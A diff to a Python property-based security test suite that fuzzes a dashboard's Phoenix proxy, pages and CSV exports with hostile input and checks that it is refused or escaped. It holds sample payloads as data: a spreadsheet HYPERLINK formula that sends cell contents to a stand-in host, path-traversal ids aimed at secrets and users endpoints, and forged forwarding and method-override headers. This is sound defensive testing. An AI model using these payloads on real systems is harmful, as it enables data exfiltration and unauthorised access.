@@ -1,9 +1,12 @@
 """Hostile input never breaks the proxy, the pages, the CSV export or the login form.
 
 Hypothesis feeds each surface arbitrary paths, queries, methods, bodies and form fields, as a
-signed-in user of every role, against one app whose Phoenix is a loopback recorder. The number
-of examples each property ran is written to `.tmp/hostile-input-counts.json` at the end of the
-module; `python -m tests.test_hostile_input` prints the configured budgets and that last record.
+signed-in user of every role, against one app whose Phoenix is a loopback recorder. What reaches
+the recorder must be on an allowlist: for the proxies their mounts' paths, for the pages and
+exports the dashboard client's own routes, each id one encoded segment (an experiment id only
+when Phoenix listed it). The number of examples each property ran is written to
+`.tmp/hostile-input-counts.json` at the end of the module; `python -m tests.test_hostile_input`
+prints the configured budgets and that last record.
 """
 
 from __future__ import annotations
@@ -41,6 +44,7 @@ from db.models import AnnotationFact, SpanFact
 from devtools import signin
 from devtools.services import free_port
 from services import users
+from services.cache import cache
 from services.container import get_services
 from services.export import EXPORTS, FORMULA_PREFIXES, csv_chunks, escape_cell
 from services.filters import RANGES, parse_query
@@ -49,6 +53,7 @@ from settings import PROJECT_DIR, Settings
 
 from .callbacks import route
 from .conftest import IN_CI, PASSWORD, TEST_SECRET
+from .test_security_experiment_ids import compare_callback
 
 COUNTS_FILE = PROJECT_DIR / ".tmp" / "hostile-input-counts.json"
 # Failing examples are replayed from here on the next run; .tmp/ is ignored by git.
@@ -62,6 +67,7 @@ BUDGETS: dict[str, int] = {
     "page_routing": 100,
     "page_redraws": 80,
     "export_endpoint": 150,
+    "experiment_ids": 100,
     "escape_cell": 500,
     "login_form": 80,
 }
@@ -88,19 +94,22 @@ def budget(name: str) -> Any:
 
 @dataclass(frozen=True)
 class Seen:
-    """One request as it reached the fake Phoenix: method, raw request target and body."""
+    """One request as it reached the fake Phoenix: method, raw target, body and headers."""
 
     method: str
     target: str
     body: bytes
+    headers: dict[str, str] = field(default_factory=dict)
 
 
 @dataclass
 class Recorder:
-    """Everything the fake Phoenix received, in order."""
+    """Everything the fake Phoenix received, in order, and what it answers besides `{}`."""
 
     seen: list[Seen] = field(default_factory=list)
     lock: threading.Lock = field(default_factory=threading.Lock)
+    # JSON answers by decoded path segments; every other path gets `{}`.
+    answers: dict[tuple[str, ...], Any] = field(default_factory=dict)
 
     def take(self) -> list[Seen]:
         """Return and forget what arrived so far."""
@@ -111,18 +120,26 @@ class Recorder:
 
 def _recording_handler(recorder: Recorder) -> type[BaseHTTPRequestHandler]:
     class Handler(BaseHTTPRequestHandler):
-        """Record the raw request line's target and answer 200 `{}`."""
+        """Record the raw request line's target and answer 200 `{}` (or a set answer)."""
 
         protocol_version = "HTTP/1.1"
+        # Headers and body go out as two writes; with Nagle's algorithm the second waits for
+        # a delayed ACK, some 40 ms per request on a kept-alive connection.
+        disable_nagle_algorithm = True
 
         def _answer(self) -> None:
             length = int(self.headers.get("Content-Length") or 0)
             body = self.rfile.read(length) if length else b""
+            headers = {name.lower(): value for name, value in self.headers.items()}
+            key = tuple(unquote(s) for s in urlsplit(self.path).path.split("/"))
             with recorder.lock:
-                recorder.seen.append(Seen(self.command, self.path, body))
-            payload = b"{}"
+                recorder.seen.append(Seen(self.command, self.path, body, headers))
+                payload = json.dumps(recorder.answers.get(key, {})).encode()
             self.send_response(200)
             self.send_header("Content-Type", "application/json")
+            # A grant to every site, which must never reach the browser through the proxy.
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Access-Control-Allow-Credentials", "true")
             self.send_header("Content-Length", str(len(payload)))
             self.end_headers()
             if self.command != "HEAD":
@@ -277,10 +294,71 @@ def report_counts(request: pytest.FixtureRequest) -> Iterator[None]:
 
 
 def assert_sane(response: TestResponse) -> None:
-    """No 5xx (the stand-in Phoenix is always up, so not even a 502/504) and no traceback."""
+    """No 5xx (the stand-in Phoenix is always up), no traceback and no CORS grant."""
     body = response.get_data()
     assert response.status_code < 500, (response.status_code, body[:500])
     assert not TRACEBACK.search(body), body[:2000]
+    granted = [n for n, _ in response.headers.items() if n.lower().startswith("access-control-")]
+    assert granted == [], granted
+
+
+# Every path the dashboard's own Phoenix client asks for; ID is one percent-encoded segment.
+ID = "{id}"
+CLIENT_ROUTES = (
+    ("arize_phoenix_version",),
+    ("graphql",),
+    ("v1", "projects"),
+    ("v1", "projects", ID),
+    ("v1", "projects", ID, "spans"),
+    ("v1", "projects", ID, "traces"),
+    ("v1", "projects", ID, "span_annotations"),
+    ("v1", "datasets"),
+    ("v1", "datasets", ID, "experiments"),
+    ("v1", "experiments", ID, "json"),
+    ("v1", "prompts"),
+    ("v1", "prompts", ID, "versions"),
+    ("v1", "prompt_versions", ID, "tags"),
+)
+
+
+def client_ids(seen: Seen) -> list[str] | None:
+    """Return the ids in a request the dashboard's client made, or None when off its routes.
+
+    An id must be one segment encoded with nothing left safe (what `quote(id, safe="")` makes),
+    so no value climbs, adds a query or splits into two segments in any server's reading.
+    """
+    segments = urlsplit(seen.target).path.split("/")
+    if segments[0] != "":
+        return None
+    for template in CLIENT_ROUTES:
+        if len(template) != len(segments) - 1:
+            continue
+        ids = []
+        for expected, raw in zip(template, segments[1:], strict=True):
+            if expected != ID:
+                if raw != expected:
+                    break
+                continue
+            value = unquote(raw)
+            if value in ("", ".", "..") or raw != quote(value, safe=""):
+                break
+            ids.append(value)
+        else:
+            return ids
+    return None
+
+
+def assert_client_requests_allowed(seen: list[Seen], listed: set[str] | None = None) -> None:
+    """Check what the pages and exports sent Phoenix: its routes, reads, and listed ids only."""
+    for request_seen in seen:
+        ids = client_ids(request_seen)
+        assert ids is not None, f"{request_seen.method} {request_seen.target!r} is off the routes"
+        if request_seen.target.startswith("/graphql"):
+            assert request_seen.method == "POST" and not carries_mutation(request_seen)
+        else:
+            assert request_seen.method == "GET", request_seen
+        if listed is not None:
+            assert set(ids) <= listed, f"{request_seen.target!r} asks for an unlisted id"
 
 
 # 1. The proxies --------------------------------------------------------------------------------
@@ -336,20 +414,22 @@ def carries_mutation(seen: Seen) -> bool:
             return True
         for item in payload if isinstance(payload, list) else [payload]:
             documents.append(item.get("query") if isinstance(item, dict) else None)
-    for document in documents:
-        if not isinstance(document, str):
-            continue
-        try:
-            parsed = parse(document, no_location=True)
-        except GraphQLError:
-            continue
-        for definition in parsed.definitions:
-            if isinstance(definition, OperationDefinitionNode) and definition.operation in (
-                OperationType.MUTATION,
-                OperationType.SUBSCRIPTION,
-            ):
-                return True
-    return False
+    return any(writes_data(document) for document in documents)
+
+
+def writes_data(document: object) -> bool:
+    """Tell whether one GraphQL document parses and holds a mutation or subscription."""
+    if not isinstance(document, str):
+        return False
+    try:
+        parsed = parse(document, no_location=True)
+    except GraphQLError:
+        return False
+    return any(
+        isinstance(definition, OperationDefinitionNode)
+        and definition.operation in (OperationType.MUTATION, OperationType.SUBSCRIPTION)
+        for definition in parsed.definitions
+    )
 
 
 def is_read(seen: Seen, path: str) -> bool:
@@ -509,6 +589,26 @@ BODIES = st.one_of(
     st.text(max_size=64).map(lambda t: t.encode("utf-8", "surrogatepass")),
     GRAPHQL_BODIES.map(lambda t: t.encode("utf-8", "surrogatepass")),
 )
+# A client's claims about proxies in front and method overrides: never forwarded to Phoenix.
+FORGED_HEADER_NAMES = (
+    "X-Forwarded-For",
+    "X-Forwarded-Host",
+    "X-Forwarded-Proto",
+    "X-Forwarded-Port",
+    "X-Forwarded-Prefix",
+    "x-forwarded-anything",
+    "Forwarded",
+    "X-Real-IP",
+    "X-HTTP-Method-Override",
+    "X-HTTP-Method",
+    "X-Method-Override",
+)
+FORGED = frozenset(name.lower() for name in FORGED_HEADER_NAMES)
+FORGED_HEADERS = st.dictionaries(
+    st.sampled_from(FORGED_HEADER_NAMES),
+    st.sampled_from(["DELETE", "PUT", "evil.example.com", "https", "1", "/admin", "for=10.0.0.1"]),
+    max_size=3,
+)
 CONTENT_TYPES = st.sampled_from(
     [
         None,
@@ -540,9 +640,15 @@ def send(
     body: bytes | None,
     content_type: str | None,
     wire: bool,
+    headers: dict[str, str] | None = None,
 ) -> TestResponse:
     """Send one request; `wire` builds the WSGI environ as gunicorn does from a raw request line."""
-    kwargs: dict[str, Any] = {"method": method, "data": body, "content_type": content_type}
+    kwargs: dict[str, Any] = {
+        "method": method,
+        "data": body,
+        "content_type": content_type,
+        "headers": headers or {},
+    }
     if not wire:
         target = f"{mount}{path}" + (f"?{query}" if query else "")
         return client.open(target, **kwargs)
@@ -569,10 +675,12 @@ def check_proxy_exchange(
     body: bytes | None,
     content_type: str | None,
     wire: bool,
-) -> None:
+    headers: dict[str, str] | None = None,
+) -> TestResponse:
     """Send one hostile request through a mount and check its answer and what reached Phoenix."""
     harness.recorder.take()
-    response = send(harness.clients[role], mount, path, query, method, body, content_type, wire)
+    client = harness.clients[role]
+    response = send(client, mount, path, query, method, body, content_type, wire, headers)
     # The recorder is always up, so a 502 or 504 here would blame Phoenix for a client's input.
     assert_sane(response)
     seen = harness.recorder.take()
@@ -589,6 +697,14 @@ def check_proxy_exchange(
         assert allowed(resolved), f"{forwarded.target!r} resolves to {resolved!r}"
         if role == "viewer":
             assert is_read(forwarded, resolved), f"a viewer's write reached Phoenix: {forwarded}"
+        if forwarded.method in ("GET", "HEAD") and resolved.strip("/").lower() == "graphql":
+            # Whatever the role: a mutation by GET would skip the write checks of a POST.
+            assert not carries_mutation(forwarded), (
+                f"a mutation by GET reached Phoenix: {forwarded}"
+            )
+        forged = [n for n in forwarded.headers if n in FORGED or n.startswith("x-forwarded-")]
+        assert forged == [], f"{forged} reached Phoenix"
+    return response
 
 
 @pytest.mark.parametrize(("mount", "path"), [("/api/phoenix/", "v1/projects"), ("/phoenix/", "x")])
@@ -608,6 +724,7 @@ def test_the_recorder_sees_a_plain_read(harness: Harness, mount: str, path: str)
     body=BODIES,
     content_type=CONTENT_TYPES,
     wire=st.booleans(),
+    headers=FORGED_HEADERS,
 )
 def test_api_proxy_answers_and_forwards_only_the_allowlist(
     harness: Harness,
@@ -618,10 +735,21 @@ def test_api_proxy_answers_and_forwards_only_the_allowlist(
     body: bytes | None,
     content_type: str | None,
     wire: bool,
+    headers: dict[str, str],
 ) -> None:
     CASES["api_proxy"] += 1
     check_proxy_exchange(
-        harness, role, "/api/phoenix/", api_allowed, path, query, method, body, content_type, wire
+        harness,
+        role,
+        "/api/phoenix/",
+        api_allowed,
+        path,
+        query,
+        method,
+        body,
+        content_type,
+        wire,
+        headers,
     )
 
 
@@ -634,6 +762,7 @@ def test_api_proxy_answers_and_forwards_only_the_allowlist(
     body=BODIES,
     content_type=CONTENT_TYPES,
     wire=st.booleans(),
+    headers=FORGED_HEADERS,
 )
 def test_ui_proxy_answers_and_forwards_only_the_allowlist(
     harness: Harness,
@@ -644,10 +773,21 @@ def test_ui_proxy_answers_and_forwards_only_the_allowlist(
     body: bytes | None,
     content_type: str | None,
     wire: bool,
+    headers: dict[str, str],
 ) -> None:
     CASES["ui_proxy"] += 1
     check_proxy_exchange(
-        harness, role, "/phoenix/", ui_allowed, path, query, method, body, content_type, wire
+        harness,
+        role,
+        "/phoenix/",
+        ui_allowed,
+        path,
+        query,
+        method,
+        body,
+        content_type,
+        wire,
+        headers,
     )
 
 
@@ -681,21 +821,35 @@ def graphql_request(
 
 @budget("graphql_bodies")
 @given(
+    role=st.sampled_from(["viewer", "viewer", "member", "admin"]),
     mount=st.sampled_from(["/api/phoenix/", "/phoenix/"]),
     path=st.sampled_from(["graphql", "graphql", "GraphQL", "graphql/", "v1/../graphql"]),
     transport=st.sampled_from(["get", "post", "batch", "other-type"]),
     documents=GRAPHQL_DOCUMENTS,
     noise=st.one_of(st.just(""), QUERIES),
 )
-def test_graphql_mutations_never_reach_phoenix_for_viewers(
-    harness: Harness, mount: str, path: str, transport: str, documents: list[str], noise: str
+def test_graphql_mutations_reach_phoenix_neither_for_viewers_nor_by_get(
+    harness: Harness,
+    role: str,
+    mount: str,
+    path: str,
+    transport: str,
+    documents: list[str],
+    noise: str,
 ) -> None:
     CASES["graphql_bodies"] += 1
     allowed = api_allowed if mount.startswith("/api/") else ui_allowed
     method, query, body, content_type = graphql_request(transport, documents, noise)
-    check_proxy_exchange(
-        harness, "viewer", mount, allowed, path, query, method, body, content_type, wire=True
+    response = check_proxy_exchange(
+        harness, role, mount, allowed, path, query, method, body, content_type, wire=True
     )
+    if method == "GET" and any(map(writes_data, parse_qs(query).get("query", []))):
+        # Refused as a 405 for every role, unless the path itself was refused first.
+        answer = response.get_json(silent=True) or {}
+        assert response.status_code == 405 or answer.get("error") in ("bad_path", "not_proxied"), (
+            response.status_code,
+            answer,
+        )
 
 
 # 2. The pages' URL queries ---------------------------------------------------------------------
@@ -801,10 +955,12 @@ def test_pages_render_any_url_query(
     client = harness.clients[role]
     query = urlencode(pairs) if raw is None else raw
     search = f"?{query}" if query else ""
+    harness.recorder.take()
     assert_sane(client.get(f"{page}{search}"))
     response = route(client, page, search)
     assert_sane(response)
     assert response.status_code == 200, response.get_data()[:500]
+    assert_client_requests_allowed(harness.recorder.take())
     if page in FILTERED:
         # The same parse Dash Pages makes of the query, then ours: each dropped value is named.
         parsed = {k: v[0] if len(v) == 1 else v for k, v in parse_qs(query, True).items()}
@@ -835,7 +991,9 @@ def call_layout(harness: Harness, page: str, query: dict[str, Any]) -> Any:
 )
 def test_layouts_fall_back_on_bad_filters(harness: Harness, page: str, query: dict) -> None:
     CASES["page_layouts"] += 1
+    harness.recorder.take()
     layout = call_layout(harness, page, query)
+    assert_client_requests_allowed(harness.recorder.take())
     if page not in FILTERED:
         return
     state, problems = parse_query(query)
@@ -866,9 +1024,11 @@ def test_redraws_survive_any_stored_query(
 ) -> None:
     CASES["page_redraws"] += 1
     search = ("?" + urlencode(pairs)) if raw is None else raw
+    harness.recorder.take()
     with harness.app.server.test_request_context("/"):
         outputs = REDRAW[page](sys.modules[f"pages.{page}"], search)
     assert isinstance(outputs, tuple) and outputs
+    assert_client_requests_allowed(harness.recorder.take())
 
 
 # 3. The CSV export -----------------------------------------------------------------------------
@@ -880,6 +1040,13 @@ def _is_number(text: str) -> bool:
     except ValueError:
         return False
     return True
+
+
+def assert_defused(rows: list[list[str]], kind: str) -> None:
+    """No cell, the header's included, starts a formula (a number is data, not a formula)."""
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_PREFIXES) or _is_number(cell), (kind, cell)
 
 
 @budget("export_endpoint")
@@ -901,8 +1068,10 @@ def test_export_answers_csv_or_a_clear_4xx(
     url = f"/api/export/{quote(page, safe='')}/{quote(kind, safe='')}.csv" + (
         f"?{query}" if query else ""
     )
+    harness.recorder.take()
     response = harness.clients[role].get(url)
     assert_sane(response)
+    assert_client_requests_allowed(harness.recorder.take())
     if (page, kind, pairs) == ("analytics", "llm-calls", []):
         assert response.status_code == 200  # the seeded-formula check below must run
     with harness.app.server.test_request_context(url):
@@ -916,9 +1085,7 @@ def test_export_answers_csv_or_a_clear_4xx(
         assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._+-]+\.csv"', disposition)
         text = response.get_data().decode("utf-8")
         rows = list(csv.reader(io.StringIO(text, newline="")))
-        for row in rows[1:]:
-            for cell in row:
-                assert not cell.startswith(FORMULA_PREFIXES) or _is_number(cell), (kind, cell)
+        assert_defused(rows, kind)
         if kind == "llm-calls" and not pairs:
             # The seeded rows are in the default window: their formula text must come out defused.
             assert {'\'=HYPERLINK("http://evil")', "'+SUM(A1)", "'@cmd"} <= {
@@ -931,6 +1098,12 @@ def test_export_answers_csv_or_a_clear_4xx(
         assert answer.get("message"), answer
 
 
+EVIL_LINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+HEADER_NAMES = st.one_of(
+    st.sampled_from([EVIL_LINK, *HOSTILE_CELLS]),
+    st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text(max_size=10)),
+    st.text(max_size=10),
+)
 CELLS = st.one_of(
     st.text(),
     st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text()),
@@ -942,13 +1115,15 @@ CELLS = st.one_of(
 
 
 @budget("escape_cell")
-@given(row=st.lists(CELLS, min_size=1, max_size=6))
-def test_exported_cells_never_start_a_formula(row: list[Any]) -> None:
+@given(row=st.lists(CELLS, min_size=1, max_size=6), names=st.lists(HEADER_NAMES, max_size=6))
+def test_exported_cells_never_start_a_formula(row: list[Any], names: list[str]) -> None:
     CASES["escape_cell"] += 1
-    header = [f"c{i}" for i in range(len(row))]
+    # Column names may come from Phoenix (evaluator names): escaped like any other cell.
+    header = (names + [f"c{i}" for i in range(len(row))])[: len(row)]
     text = "".join(csv_chunks(header, [row]))
     parsed = list(csv.reader(io.StringIO(text, newline="")))
-    assert parsed[0] == header and len(parsed) == 2
+    assert parsed[0] == [escape_cell(name) for name in header] and len(parsed) == 2
+    assert_defused(parsed[:1], "header")
     for value, cell in zip(row, parsed[1], strict=True):
         if isinstance(value, str):
             expected = "'" + value if value.startswith(FORMULA_PREFIXES) else value
@@ -960,6 +1135,164 @@ def test_exported_cells_never_start_a_formula(row: list[Any]) -> None:
         else:
             # Numbers stay numbers: a negative one is data, not a formula.
             assert cell == str(value)
+
+
+# 3b. Experiment ids from the URL, names from Phoenix ----------------------------------------------
+
+DATASET_ID = "RGF0YXNldDox"
+# Ids Phoenix may list: its own Relay ids, padded or not, and odd ones a hostile Phoenix could.
+PHOENIX_IDS = (
+    "RXhwZXJpbWVudDox",
+    "RXhwZXJpbWVudDoxMA==",
+    "a b;c",
+    "ünï",
+    "x/../../v1/users?y=#z",
+    "%2e%2e",
+)
+# What a viewer may put in a=… and b=…: the listed ids, and ones that climb or add a query.
+TYPED_IDS = st.one_of(
+    st.sampled_from(PHOENIX_IDS),
+    st.sampled_from(
+        [
+            "../users?x=",
+            "../../v1/secrets?y=",
+            "..",
+            ".",
+            "",
+            "RXhwZXJpbWVudDox/../../users",
+            "RXhwZXJpbWVudDox?x=",
+            "RXhwZXJpbWVudDox#",
+            " RXhwZXJpbWVudDox",
+            "RXhwZXJpbWVudDoxMA%3D%3D",
+            "a" * 3000,
+        ]
+    ),
+    st.text(max_size=16),
+)
+# Evaluator names become header cells, and may collide with the table's own columns.
+EVALUATOR_NAMES = st.lists(
+    st.one_of(
+        HEADER_NAMES,
+        st.sampled_from(["input", "output", "error", "example_id", "output A", "exact_match"]),
+    ),
+    min_size=1,
+    max_size=3,
+    unique=True,
+)
+SURFACES = ("experiments", "experiment-deltas", "experiment-examples", "compare-callback")
+UNLISTED = "is not among Phoenix's experiments"
+
+
+def phoenix_catalog(
+    listed: list[str], names: list[str], evaluators: list[str]
+) -> dict[tuple[str, ...], Any]:
+    """Answers of a Phoenix with one dataset of the listed experiments, each with two runs."""
+    answers: dict[tuple[str, ...], Any] = {
+        ("", "v1", "datasets"): {"data": [{"id": DATASET_ID, "name": names[0]}]},
+        ("", "v1", "datasets", DATASET_ID, "experiments"): {
+            "data": [{"id": i, "name": names[-1], "created_at": names[0]} for i in listed]
+        },
+    }
+    for index, experiment_id in enumerate(listed):
+        # Each experiment has its own evaluators, so some columns exist on one side only.
+        own = evaluators[: 1 + index % len(evaluators)]
+        answers[("", "v1", "experiments", experiment_id, "json")] = [
+            {
+                "example_id": f"ex-{n}",
+                "input": {"q": names[0]},
+                "output": names[-1],
+                "error": names[0] if n else None,
+                "latency_ms": 5.0 + n,
+                "annotations": [
+                    {"name": name, "score": (n + k) / 4, "label": names[-1]}
+                    for k, name in enumerate(own)
+                ],
+            }
+            for n in range(2)
+        ]
+    return answers
+
+
+@budget("experiment_ids")
+@example(
+    role="viewer",
+    surface="experiment-examples",
+    listed=list(PHOENIX_IDS[:2]),
+    a="../users?x=",
+    b=PHOENIX_IDS[1],
+    names=["support", "run"],
+    evaluators=[EVIL_LINK],
+)
+@example(
+    role="viewer",
+    surface="experiment-examples",
+    listed=list(PHOENIX_IDS[:2]),
+    a=PHOENIX_IDS[0],
+    b=PHOENIX_IDS[1],
+    names=["support", "run"],
+    evaluators=[EVIL_LINK, "input"],
+)
+@example(
+    role="member",
+    surface="compare-callback",
+    listed=list(PHOENIX_IDS[:2]),
+    a="../../v1/secrets?y=",
+    b=PHOENIX_IDS[0],
+    names=["support", "run"],
+    evaluators=["exact_match"],
+)
+@given(
+    role=st.sampled_from(ROLES),
+    surface=st.sampled_from(SURFACES),
+    listed=st.lists(st.sampled_from(PHOENIX_IDS), min_size=1, max_size=4, unique=True),
+    a=TYPED_IDS,
+    b=TYPED_IDS,
+    names=st.lists(HEADER_NAMES, min_size=2, max_size=2),
+    evaluators=EVALUATOR_NAMES,
+)
+def test_experiment_ids_reach_phoenix_only_when_listed_and_encoded(
+    harness: Harness,
+    role: str,
+    surface: str,
+    listed: list[str],
+    a: str,
+    b: str,
+    names: list[str],
+    evaluators: list[str],
+) -> None:
+    CASES["experiment_ids"] += 1
+    harness.recorder.answers = phoenix_catalog(listed, names, evaluators)
+    try:
+        with harness.app.server.app_context():
+            cache.clear()  # the experiments table and each experiment's runs are cached
+        harness.recorder.take()
+        client = harness.clients[role]
+        if surface == "compare-callback":
+            response = compare_callback(client, a, b)
+        else:
+            query = urlencode([("a", a), ("b", b)])
+            response = client.get(f"/api/export/experiments/{surface}.csv?{query}")
+        assert_sane(response)
+        # Only the listing and the listed experiments' runs, each id one encoded segment.
+        assert_client_requests_allowed(harness.recorder.take(), {DATASET_ID, *listed})
+    finally:
+        harness.recorder.answers = {}
+    unlisted = bool(a and b) and not (a in listed and b in listed)
+    if surface == "compare-callback":
+        assert response.status_code == 200, response.get_data()[:500]
+        shown = " ".join(strings_in(response.json))
+        assert (UNLISTED in shown) == unlisted, shown[:500]
+        return
+    if surface == "experiments" or (a and b and not unlisted):
+        assert response.status_code == 200, response.get_data()[:500]
+        rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8"), newline="")))
+        assert_defused(rows, surface)
+        if surface == "experiment-examples" and EVIL_LINK in evaluators:
+            assert f"'{EVIL_LINK} A" in rows[0], rows[0]
+        return
+    assert response.status_code == (404 if unlisted else 400), response.get_data()[:500]
+    message = response.get_json()["message"]
+    assert (UNLISTED in message) == unlisted, message
 
 
 # 4. The login form -----------------------------------------------------------------------------
